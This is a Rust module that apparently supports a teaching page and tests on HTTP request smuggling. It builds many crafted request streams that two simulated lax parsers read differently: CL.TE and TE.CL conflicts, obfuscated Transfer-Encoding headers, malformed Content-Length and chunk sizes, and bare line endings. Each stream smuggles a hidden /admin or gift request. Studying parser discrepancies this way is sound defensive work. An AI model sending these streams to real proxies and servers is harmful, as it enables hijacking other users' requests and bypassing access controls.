//! Request smuggling: one stream a trick, and two [lax](crate::lax) readers
//! each that it sets at odds. For the page and its tests.

use crate::lax::{
    BY_LENGTH, ChunkEnd, Lax, Lines, PLAIN, Which, coding, number, size,
};

// ANCHOR: stream
/// What one client sends through a proxy, …
pub const MALLORY: &str = "POST / HTTP/1.1\r\n\
    Host: shop.example\r\n\
    Content-Length: 47\r\n\
    Transfer-Encoding: chunked\r\n\
    \r\n\
    0\r\n\
    \r\n\
    GET /gift?to=mallory HTTP/1.1\r\n\
    X-Ignore: x";
/// … and what another sends behind it.
pub const ALICE: &str = "GET /orders HTTP/1.1\r\n\
    Host: shop.example\r\n\
    Cookie: alice\r\n\
    \r\n";
// ANCHOR_END: stream

/// A stream that two lax readers take for different requests.
#[derive(Debug, Clone)]
pub struct Case {
    /// What it is.
    pub what: &'static str,
    /// The bytes.
    pub stream: Vec<u8>,
    /// One reader, …
    pub front: Lax,
    /// … and another.
    pub back: Lax,
}

// ANCHOR: hidden
/// What an attacker wants one reader to see and the other not.
const HIDDEN: &str = "GET /admin HTTP/1.1\r\nHost: x\r\n\r\n";
// ANCHOR_END: hidden

/// The same, with seven bytes of content: what follows it in chunks, CR LF
/// and a last chunk, is no request then.
const IN_CHUNK: &str =
    "GET /admin HTTP/1.1\r\nHost: x\r\nContent-Length: 7\r\n\r\n";

/// A POST with these fields, and what follows it. `{n}` stands for the length
/// of what follows.
fn post(fields: &str, rest: &str) -> Vec<u8> {
    let fields = fields.replace("{n}", &rest.len().to_string());
    format!("POST / HTTP/1.1\r\nHost: x\r\n{fields}\r\n\r\n{rest}").into_bytes()
}

/// Both fields, one of them odd: one reader goes by the length, the other
/// sees content that ends at once.
fn odd_coding(what: &'static str, coding: &str, front: Lax, back: Lax) -> Case {
    let fields = format!("Content-Length: {{n}}\r\n{coding}");
    Case {
        what,
        stream: post(&fields, &format!("0\r\n\r\n{HIDDEN}")),
        front,
        back,
    }
}

/// A field line in which one reader finds the length of the hidden request,
/// and the other none.
fn odd_length(what: &'static str, line: &str, front: Lax) -> Case {
    Case {
        what,
        stream: post(line, HIDDEN),
        front,
        back: Lax {
            number: number::digits,
            ..PLAIN
        },
    }
}

/// A first line of a chunk in which one reader finds its size, and the other
/// that it is the last. `{n}` stands for the size.
fn odd_size(what: &'static str, line: &str, front: Lax, back: Lax) -> Case {
    let chunk = format!("\r\n{IN_CHUNK}");
    let line = line.replace("{n}", &format!("{:x}", chunk.len()));
    let rest = format!("{line}\r\n{chunk}\r\n0\r\n\r\n");
    Case {
        what,
        stream: post("Transfer-Encoding: chunked", &rest),
        front,
        back,
    }
}

/// Every one that the page shows.
pub fn cases() -> Vec<Case> {
    [two_answers(), codings(), lengths(), lines(), chunks()].concat()
}

fn two_answers() -> Vec<Case> {
    let size = format!("{:x}\r\n", IN_CHUNK.len());
    let chunked = format!("{size}{IN_CHUNK}\r\n0\r\n\r\n");
    let both = format!(
        "Transfer-Encoding: chunked\r\nContent-Length: {}",
        size.len()
    );
    vec![
        odd_coding(
            "CL.TE: both",
            "Transfer-Encoding: chunked",
            BY_LENGTH,
            PLAIN,
        ),
        Case {
            what: "TE.CL: both",
            stream: post(&both, &chunked),
            front: PLAIN,
            back: BY_LENGTH,
        },
        Case {
            what: "length with GET (allowed)",
            stream: [&b"GET"[..], &post("Content-Length: {n}", HIDDEN)[4..]]
                .concat(),
            front: PLAIN,
            back: Lax {
                get_has_content: false,
                ..PLAIN
            },
        },
    ]
}

fn codings() -> Vec<Case> {
    let anywhere = Lax {
        is_chunked: coding::anywhere,
        ..PLAIN
    };
    let last = Lax {
        is_chunked: coding::last,
        ..PLAIN
    };
    let first_line = Lax {
        repeated: Which::First,
        ..PLAIN
    };
    let mut old = odd_coding(
        "chunked in HTTP/1.0",
        "Transfer-Encoding: chunked",
        Lax {
            old_codings: false,
            ..PLAIN
        },
        PLAIN,
    );
    old.stream[b"POST / HTTP/1.".len()] = b'0';
    let case = |what, value: &str, front, back| {
        odd_coding(what, &format!("Transfer-Encoding:{value}"), front, back)
    };
    vec![
        case("xchunked", " xchunked", PLAIN, anywhere),
        case("\"chunked\"", " \"chunked\"", PLAIN, anywhere),
        case("chunked, identity", " chunked, identity", last, anywhere),
        case("TAB chunked", "\tchunked", PLAIN, last),
        case("VT chunked", " \x0bchunked", PLAIN, last),
        case(
            "identity, next line chunked",
            " identity\r\nTransfer-Encoding: chunked",
            first_line,
            PLAIN,
        ),
        case(
            "chunked, next line identity",
            " chunked\r\nTransfer-Encoding: identity",
            PLAIN,
            first_line,
        ),
        old,
    ]
}

fn lengths() -> Vec<Case> {
    let strtoull = Lax {
        number: number::strtoull,
        ..PLAIN
    };
    let parse = Lax {
        number: number::parse,
        ..PLAIN
    };
    let wrapping = Lax {
        number: number::wrapping,
        ..PLAIN
    };
    let first = Lax {
        repeated: Which::First,
        ..PLAIN
    };
    let wrapped = (1_u128 << 64) + HIDDEN.len() as u128;
    let hex = format!("Content-Length: {:#x}", HIDDEN.len());
    let wrapped = format!("Content-Length: {wrapped}");
    let two = "Content-Length: {n}\r\nContent-Length: 0";
    vec![
        odd_length("length n, next line 0", two, first),
        odd_length("length n, n", "Content-Length: {n}, {n}", strtoull),
        odd_length("length +n", "Content-Length: +{n}", parse),
        odd_length("length 0x…", &hex, strtoull),
        odd_length("length VT n", "Content-Length: \x0b{n}", strtoull),
        odd_length("length n SP n", "Content-Length: {n} {n}", strtoull),
        odd_length("length n + 2⁶⁴", &wrapped, wrapping),
    ]
}

fn lines() -> Vec<Case> {
    let folds = Lax {
        folds: true,
        ..PLAIN
    };
    let trims = Lax {
        trims_names: true,
        ..PLAIN
    };
    let lf = Lax {
        lines: Lines::Lf,
        ..PLAIN
    };
    let cr = Lax {
        lines: Lines::CrOrLf,
        ..PLAIN
    };
    vec![
        odd_length("length on a folded line", "Content-Length:\r\n {n}", folds),
        odd_length("length behind a bare LF", "A: b\nContent-Length: {n}", lf),
        odd_length("length behind a bare CR", "A: b\rContent-Length: {n}", cr),
        odd_length("space before the colon", "Content-Length : {n}", trims),
    ]
}

fn chunks() -> Vec<Case> {
    let strtoull = Lax {
        size: size::strtoull,
        ..PLAIN
    };
    let parse = Lax {
        size: size::parse,
        ..PLAIN
    };
    let saturating = Lax {
        size: size::saturating,
        ..PLAIN
    };
    let merges = Lax {
        merges_trailers: true,
        ..PLAIN
    };
    let trailer =
        format!("0\r\nContent-Length: {}\r\n\r\n{HIDDEN}", HIDDEN.len());
    vec![
        odd_size("chunk size 0x…", "0x{n}", strtoull, PLAIN),
        odd_size("chunk size +n", "+{n}", parse, PLAIN),
        odd_size("chunk size SP n", " {n}", strtoull, PLAIN),
        odd_size("chunk size n SP ;", "{n} ;", PLAIN, parse),
        odd_size("chunk size 2⁶⁴", "10000000000000000", saturating, PLAIN),
        bare_lf_in_extension(),
        no_line_end(),
        Case {
            what: "Content-Length in the trailer",
            stream: post("Transfer-Encoding: chunked", &trailer),
            front: merges,
            back: PLAIN,
        },
    ]
}

/// `2;`, LF, `xx`: an extension, to a reader that looks for CR LF. To one
/// that looks for LF, a chunk; and then the next one's content is a size.
fn bare_lf_in_extension() -> Case {
    let rest = format!("0\r\n\r\n{IN_CHUNK}");
    let chunks = format!("2;\nxx\r\n{:02x}\r\n{rest}", rest.len());
    Case {
        what: "bare LF in a chunk extension",
        stream: post(
            "Transfer-Encoding: chunked",
            &format!("{chunks}\r\n0\r\n\r\n"),
        ),
        front: Lax {
            chunk_lines: Lines::Lf,
            ..PLAIN
        },
        back: PLAIN,
    }
}

/// Behind `x` should be CR LF. A reader that skips two bytes there goes on
/// with `0`, the last chunk; one that skips CR LF if it is there, with a
/// chunk's size of three digits.
fn no_line_end() -> Case {
    let pad = 16 - ("\r\n".len() + IN_CHUNK.len()) % 16;
    let query = format!("/admin?{}", "a".repeat(pad - 1));
    let rest = format!("\r\n{IN_CHUNK}").replace("/admin", &query);
    let chunks = format!("1\r\nx{:03x}\r\n{rest}\r\n0\r\n\r\n", rest.len());
    Case {
        what: "no CR LF behind a chunk",
        stream: post("Transfer-Encoding: chunked", &chunks),
        front: Lax {
            chunk_end: ChunkEnd::IfThere,
            ..PLAIN
        },
        back: PLAIN,
    }
}
